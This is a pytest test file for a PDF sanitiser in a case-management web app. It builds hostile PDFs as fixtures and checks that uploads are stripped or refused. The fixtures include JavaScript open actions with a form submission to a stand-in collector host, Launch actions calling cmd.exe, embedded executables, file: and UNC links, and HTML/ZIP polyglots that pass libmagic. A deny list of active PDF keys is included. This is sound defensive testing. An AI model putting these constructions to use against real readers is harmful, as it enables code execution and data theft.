"""Uploaded PDFs made inert (issue 21 point 3): scripts, actions, attachments, forms and multimedia are stripped
from what is stored, the visible pages kept; PDFs that are also web pages or ZIP archives, and PDFs that cannot be
read, are refused beside the file field with nothing stored. Each file is built here with pikepdf and sent through
the evidence document upload page and through the public referral form."""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta

import magic
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from sqlalchemy import select

from app.audit.models import AuditEvent, Outcome
from app.auth.models import Role
from app.evidence.models import Document
from app.evidence.pdf import make_inert
from app.intake.models import HelpRequest
from app.visits.models import Visit
from tests.evidence.conftest import document_count, submit, upload
from tests.pages import audit_events

PAGE_TEXTS = ("Fictional clinic letter for Testa Example", "Page two of the fictional letter")
SCRIPT = "app.alert('fictional payload')"

# What must not be anywhere in a stored PDF: keys, action types, annotation subtypes and object types that run
# something, reach outside the document, carry files or make a form. Kept separate from app/evidence/pdf.py so
# that the test does not share the code's blind spots.
ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/AF", "/AcroForm", "/XFA",
               "/RichMediaContent", "/RichMediaSettings", "/Collection", "/AlternatePresentations"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/ResetForm",
                  "/Rendition", "/Movie", "/Sound", "/RichMediaExecute", "/Hide", "/Named", "/SetOCGState"}
ACTIVE_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D", "/Widget"}


# --- building the files ----------------------------------------------------------------------------

def letter() -> pikepdf.Pdf:
    """Two A4 pages of plain text, nothing active."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
                                        Encoding=Name.WinAnsiEncoding))
    for text in PAGE_TEXTS:
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 760 Td ({text}) Tj ET".encode())
    return pdf


def written(pdf: pikepdf.Pdf) -> bytes:
    # Uncompressed, so that the test can see its own markers in what it sends (and their absence in what is kept).
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def link(pdf: pikepdf.Pdf, action: Dictionary, y: int) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, y, 300, y + 14],
                                        Border=[0, 0, 0], A=action))


def open_action_javascript() -> bytes:
    pdf = letter()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT)))
    script = pdf.make_stream(b"this.submitForm('https://collector.example/fictional');")
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([
        String("fictional"), pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=script))])))
    return written(pdf)


def page_additional_actions() -> bytes:
    pdf = letter()
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)),
        C=Dictionary(S=Name.Launch, F=String("fictional-closing.exe")))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('fictional close')")))
    return written(pdf)


def launch_action() -> bytes:
    pdf = letter()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"),
                        Win=Dictionary(F=String("cmd.exe"), P=String("/c echo fictional-launch")))
    pdf.pages[0].obj.Annots = Array([link(pdf, launch, 700)])
    # A bookmark can carry an action too.
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Open me, a fictional bookmark"), Parent=outline,
                                        A=Dictionary(S=Name.Launch, F=String("fictional-bookmark.bat"))))
    outline.First = item
    outline.Last = item
    pdf.Root.Outlines = outline
    return written(pdf)


def embedded_file() -> bytes:
    pdf = letter()
    pdf.attachments["fictional-notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"fictional attachment body one")
    stream = pdf.make_stream(b"fictional attachment body two", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("fictional-scan.exe"),
                                        UF=String("fictional-scan.exe"), EF=Dictionary(F=stream)))
    pin = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 650, 90, 668],
                                       FS=spec, Contents=String("fictional attachment")))
    pdf.pages[1].obj.Annots = Array([pin])
    return written(pdf)


def acroform_with_xfa() -> bytes:
    """A filled-in text field (its value drawn by its appearance stream), a keystroke script, and an XFA packet."""
    pdf = letter()
    page = pdf.pages[0]
    font = page.obj.Resources.Font.F1
    appearance = pdf.make_stream(b"BT /F1 10 Tf 2 5 Td (Filled value Fictiva) Tj ET", Type=Name.XObject,
                                 Subtype=Name.Form, BBox=[0, 0, 220, 20],
                                 Resources=Dictionary(Font=Dictionary(F1=font)))
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("client_name"), V=String("Filled value Fictiva"),
        Rect=[72, 600, 292, 620], F=4, P=page.obj, AP=Dictionary(N=appearance),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))))
    page.obj.Annots = Array([field])
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>fictional-xfa</script></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/F1 10 Tf 0 g"), XFA=xfa)
    return written(pdf)


def actions_of_every_other_kind() -> bytes:
    """Submit, import, remote go-to, a file: URI and rich media, beside a web link and an internal link that stay."""
    pdf = letter()
    second_page = pdf.pages[1].obj
    pdf.pages[0].obj.Annots = Array([
        link(pdf, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://submit.example/x"))), 700),
        link(pdf, Dictionary(S=Name.ImportData, F=String("fictional-import.fdf")), 680),
        link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\fictional-share\\leak.pdf"), D=Array([0, Name.Fit])), 660),
        link(pdf, Dictionary(S=Name.URI, URI=String("file:///C:/fictional/secrets.txt")), 640),
        link(pdf, Dictionary(S=Name.URI, URI=String("https://guidance.example.org/rule-35")), 620),
        link(pdf, Dictionary(S=Name.GoTo, D=Array([second_page, Name.Fit])), 600),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 400, 300, 560],
                                     RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))))])
    return written(pdf)


def html_before_the_header() -> bytes:
    return b"<html><body><script>alert('fictional')</script></body></html>\n" + written(letter())


def html_after_the_header() -> bytes:
    data = written(letter())
    return data.replace(b"\n", b"\n%<script>alert('fictional')</script>\n", 1)


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("fictional.html", "<script>alert('fictional')</script>")
    return out.getvalue()


def zip_appended() -> bytes:
    return written(letter()) + zip_archive()


def zip_inside_a_stream() -> bytes:
    pdf = letter()
    pdf.Root.FictionalCarrier = pdf.make_stream(zip_archive())
    return written(pdf)


def corrupt() -> bytes:
    return b"%PDF-1.7\n%fictional\n" + b"1 0 obj << /Type /Catalog /Pages 9 0 R >> \x00\xff garbage " * 40


def truncated() -> bytes:
    data = written(letter())
    return data[:40]


def xfa_only() -> bytes:
    """A dynamic XFA form: its pages exist only for Acrobat to draw from the XFA packet."""
    pdf = letter()
    pdf.Root.NeedsRendering = True
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp>fictional</xdp:xdp>"))
    return written(pdf)


def password_protected() -> bytes:
    out = io.BytesIO()
    letter().save(out, encryption=pikepdf.Encryption(user="fictional-password", owner="fictional-owner"))
    return out.getvalue()


@dataclass(frozen=True)
class Active:
    build: Callable[[], bytes]
    removed: list[str]
    markers: tuple[bytes, ...]   # in the file sent, never in the file kept
    kept: tuple[bytes, ...] = ()  # in the file kept
    links: tuple[str, ...] = ()   # the actions of the links left on the first page
    first_page_also: str = ""     # text drawn on the first page besides the letter's own


ACTIVE = {
    "open_action_javascript": Active(open_action_javascript, ["javascript", "open_action"],
                                     (b"fictional payload", b"collector.example")),
    "page_additional_actions": Active(page_additional_actions, ["additional_actions", "javascript", "launch"],
                                      (b"fictional payload", b"fictional-closing", b"fictional close")),
    "launch_action": Active(launch_action, ["launch"], (b"cmd.exe", b"fictional-launch", b"fictional-bookmark"),
                            kept=(b"Open me, a fictional bookmark",)),
    "embedded_file": Active(embedded_file, ["embedded_files", "file_attachment"],
                            (b"fictional attachment body", b"fictional-notes", b"fictional-scan")),
    "acroform_with_xfa": Active(acroform_with_xfa, ["additional_actions", "form", "javascript", "xfa"],
                                (b"fictional payload", b"fictional-xfa", b"client_name"),
                                first_page_also="Filled value Fictiva"),
    "actions_of_every_other_kind": Active(
        actions_of_every_other_kind, ["import_data", "remote_go_to", "rich_media", "submit_form", "uri"],
        (b"submit.example", b"fictional-import", b"fictional-share", b"secrets.txt"),
        kept=(b"https://guidance.example.org/rule-35",), links=("/URI", "/GoTo")),
}

REFUSED = {
    "html_before_the_header": (html_before_the_header, "pdf_polyglot_html", "a PDF and a web page (HTML) at once"),
    "html_after_the_header": (html_after_the_header, "pdf_polyglot_html", "a PDF and a web page (HTML) at once"),
    "zip_appended": (zip_appended, "pdf_polyglot_zip", "a PDF and a ZIP archive at once"),
    "zip_inside_a_stream": (zip_inside_a_stream, "pdf_polyglot_zip", "a PDF and a ZIP archive at once"),
    "corrupt": (corrupt, "unreadable_pdf", "This PDF could not be read; save it again as PDF and upload it again."),
    "truncated": (truncated, "unreadable_pdf", "This PDF could not be read; save it again as PDF and upload it again."),
    "password_protected": (password_protected, "pdf_password", "This PDF is protected by a password"),
    "xfa_only": (xfa_only, "pdf_xfa_only", "only Adobe Acrobat can display (XFA)"),
}


# --- looking inside what was kept ---------------------------------------------------------------

def nested(obj: object) -> bool:
    return isinstance(obj, (pikepdf.Array, pikepdf.Dictionary, pikepdf.Stream)) and not obj.is_indirect


def dictionaries(pdf: pikepdf.Pdf) -> Iterator[pikepdf.Object]:
    """Every dictionary and stream of the file: each indirect object, and every direct one nested inside it."""
    for top in pdf.objects:
        pending = [top]
        while pending:
            obj = pending.pop()
            if isinstance(obj, pikepdf.Array):
                pending.extend(child for child in obj if nested(child))
            elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                yield obj
                pending.extend(obj[key] for key in list(obj.keys()) if nested(obj[key]))


def active_parts(data: bytes) -> list[str]:
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        walked = 0
        for obj in dictionaries(pdf):
            walked += 1
            found += [key for key in list(obj.keys()) if key in ACTIVE_KEYS]
            kind, subtype, type_ = obj.get("/S"), obj.get("/Subtype"), obj.get("/Type")
            if isinstance(kind, Name) and str(kind) in ACTIVE_ACTIONS and type_ in (None, Name.Action):
                found.append(f"action {kind}")
            if kind == Name.URI and not bytes(obj.URI).startswith((b"https://", b"http://", b"mailto:")):
                found.append(f"URI {bytes(obj.URI)!r}")
            if isinstance(subtype, Name) and str(subtype) in ACTIVE_SUBTYPES:
                found.append(f"annotation {subtype}")
            if type_ == Name.EmbeddedFile:
                found.append("embedded file stream")
        assert walked > 5  # the walk saw the pages, fonts and catalog
    return found


def page_texts(data: bytes) -> list[str]:
    return [page.extract_text().strip() for page in PdfReader(io.BytesIO(data)).pages]


def assert_inert_and_intact(sent: bytes, kept: bytes, case: Active) -> None:
    assert active_parts(sent), "the test file must carry active parts, or the test proves nothing"
    for marker in case.markers:
        assert marker in sent
        assert marker not in kept, marker
    for marker in case.kept:
        assert marker in kept, marker
    assert active_parts(kept) == []
    texts = page_texts(kept)
    assert len(texts) == len(PAGE_TEXTS)
    assert texts[0].startswith(PAGE_TEXTS[0]) and texts[1] == PAGE_TEXTS[1]
    assert case.first_page_also in texts[0]
    if not case.first_page_also:
        assert texts[0] == PAGE_TEXTS[0]
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        annotations = pdf.pages[0].obj.get("/Annots", Array())
        assert tuple(str(a.A.S) for a in annotations if "/A" in a) == case.links


# --- through the evidence document upload page -----------------------------------------------------

@pytest.fixture
def item_paths(client, db, signed_in, make_person, today):  # type: ignore[no-untyped-def]
    signed_in(Role.coordinator)
    person = make_person("Inert", "Fictivo")
    created = submit(client, f"/people/{person.reference}/evidence/new", {
        "kind": "medico_legal_report", "issued_date": str(today - timedelta(days=1)), "sensitivity": "high"})
    assert created.status_code == 303
    page = created.headers["location"]
    return person, page, page + "/documents"


def documents(db) -> list[Document]:  # type: ignore[no-untyped-def]
    db.rollback()
    return list(db.scalars(select(Document).order_by(Document.id)))


def events(db, action: str) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    db.rollback()
    return list(db.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)))


@pytest.mark.parametrize("name", list(ACTIVE))
def test_an_active_pdf_is_stored_without_its_active_parts_and_the_removal_recorded(client, db, item_paths, name):
    case = ACTIVE[name]
    person, page, path = item_paths
    sent = case.build()

    response = upload(client, path, "fictional letter.pdf", sent, page=page, declared_type="application/pdf")

    assert response.status_code == 303
    [document] = documents(db)
    assert document.content_type == "application/pdf" and document.content != sent
    assert document.sha256 == hashlib.sha256(document.content).hexdigest()
    assert document.size_bytes == len(document.content)
    assert_inert_and_intact(sent, document.content, case)
    downloaded = client.get(f"/people/{person.reference}/documents/{document.id}")
    assert downloaded.content == document.content
    [uploaded] = events(db, "document.uploaded")
    assert uploaded.details["removed"] == case.removed
    assert uploaded.details["sha256"] == document.sha256 and uploaded.details["size_bytes"] == document.size_bytes


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_polyglot_or_unreadable_pdf_is_refused_beside_the_field_and_nothing_stored(client, db, item_paths, name):
    build, reason, words = REFUSED[name]
    person, page, path = item_paths

    response = upload(client, path, "fictional letter.pdf", build(), page=page, declared_type="application/pdf")

    assert response.status_code == 422
    assert 'id="f-file-error"' in response.text
    assert words.replace("'", "&#39;") in response.text
    assert document_count(db) == 0
    [refused] = events(db, "document.upload_refused")
    assert refused.outcome is Outcome.failure and refused.details["reason"] == reason


def test_the_polyglots_would_pass_the_content_check_alone():
    """libmagic calls each of them a PDF: the type check by content alone would have let them in."""
    for name in ("html_before_the_header", "html_after_the_header", "zip_appended", "zip_inside_a_stream"):
        assert magic.from_buffer(REFUSED[name][0](), mime=True) == "application/pdf", name


def test_bytes_that_only_look_like_a_zip_signature_do_not_refuse_a_pdf():
    """Compressed data holds "PK" by chance; only a record a ZIP reader would follow makes the file a ZIP too."""
    pdf = letter()
    pdf.Root.FictionalData = pdf.make_stream(b"PK\x03\x04" + b"\x00" * 40 + b"PK\x05\x06" + b"\xff" * 30)
    kept = make_inert(written(pdf))
    assert kept.removed == () and page_texts(kept.content) == list(PAGE_TEXTS)


def test_a_plain_pdf_keeps_its_pages_and_text_and_nothing_is_recorded_as_removed(client, db, item_paths):
    person, page, path = item_paths
    sent = written(letter())

    assert upload(client, path, "plain letter.pdf", sent, page=page).status_code == 303

    [document] = documents(db)
    assert page_texts(document.content) == list(PAGE_TEXTS)
    assert active_parts(document.content) == []
    assert document.sha256 == hashlib.sha256(document.content).hexdigest()
    [uploaded] = events(db, "document.uploaded")
    assert "removed" not in uploaded.details
    # The rewrite is deterministic, so the same file sent twice is still recognised as the same file...
    again = upload(client, path, "plain letter (copy).pdf", sent, page=page)
    assert again.status_code == 422 and "already attached" in again.text
    # ...and a file already written the way the app writes (a download, uploaded again) is kept byte for byte.
    assert make_inert(document.content).content == document.content


def test_a_visit_document_upload_is_made_inert_too(client, db, signed_in, make_person, today):
    user = signed_in(Role.coordinator)
    person = make_person("Visit", "Fictivo")
    db.rollback()
    visit = Visit(person_id=person.id, clinician_id=user.id, visit_date=today, mode="in_person")
    db.add(visit)
    db.commit()
    page = f"/people/{person.reference}/documents/visit/{visit.id}"
    sent = open_action_javascript()

    assert upload(client, page, "visit.pdf", sent, page=page).status_code == 303

    [document] = documents(db)
    assert document.visit_id == visit.id
    assert active_parts(document.content) == []


# --- through the public referral form ----------------------------------------------------------------

def stored_requests(db) -> list[HelpRequest]:  # type: ignore[no-untyped-def]
    db.rollback()
    return list(db.scalars(select(HelpRequest)))


def send_referral(client, document: bytes):  # type: ignore[no-untyped-def]
    from tests.intake.test_public_form import _send

    return _send(client, files={"document": ("fictional referral.pdf", document, "application/pdf")})


@pytest.mark.parametrize("name", list(ACTIVE))
def test_an_active_pdf_sent_with_a_referral_is_kept_without_its_active_parts(client, db, name):
    case = ACTIVE[name]
    sent = case.build()

    response = send_referral(client, sent)

    assert response.status_code == 303
    [request] = stored_requests(db)
    kept = request.document_content
    assert kept is not None and kept != sent and request.document_type == "application/pdf"
    assert request.document_sha256 == hashlib.sha256(kept).hexdigest() and request.document_size == len(kept)
    assert_inert_and_intact(sent, kept, case)
    [event] = audit_events(db, "request.submitted_online")
    assert event.details["with_document"] is True and event.details["removed"] == case.removed


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_polyglot_or_unreadable_pdf_sent_with_a_referral_is_refused_beside_the_field(client, db, name):
    build, _reason, words = REFUSED[name]

    response = send_referral(client, build())

    assert response.status_code == 422
    assert 'id="f-document-error"' in response.text
    assert words.replace("'", "&#39;") in response.text and "Nothing was sent" in response.text
    assert stored_requests(db) == []
    assert audit_events(db, "request.submitted_online") == []


def test_a_plain_pdf_sent_with_a_referral_keeps_its_pages_and_text(client, db):
    response = send_referral(client, written(letter()))

    assert response.status_code == 303
    [request] = stored_requests(db)
    assert request.document_content is not None
    assert page_texts(request.document_content) == list(PAGE_TEXTS)
    [event] = audit_events(db, "request.submitted_online")
    assert event.details == {"urgency": "this_week", "with_document": True}
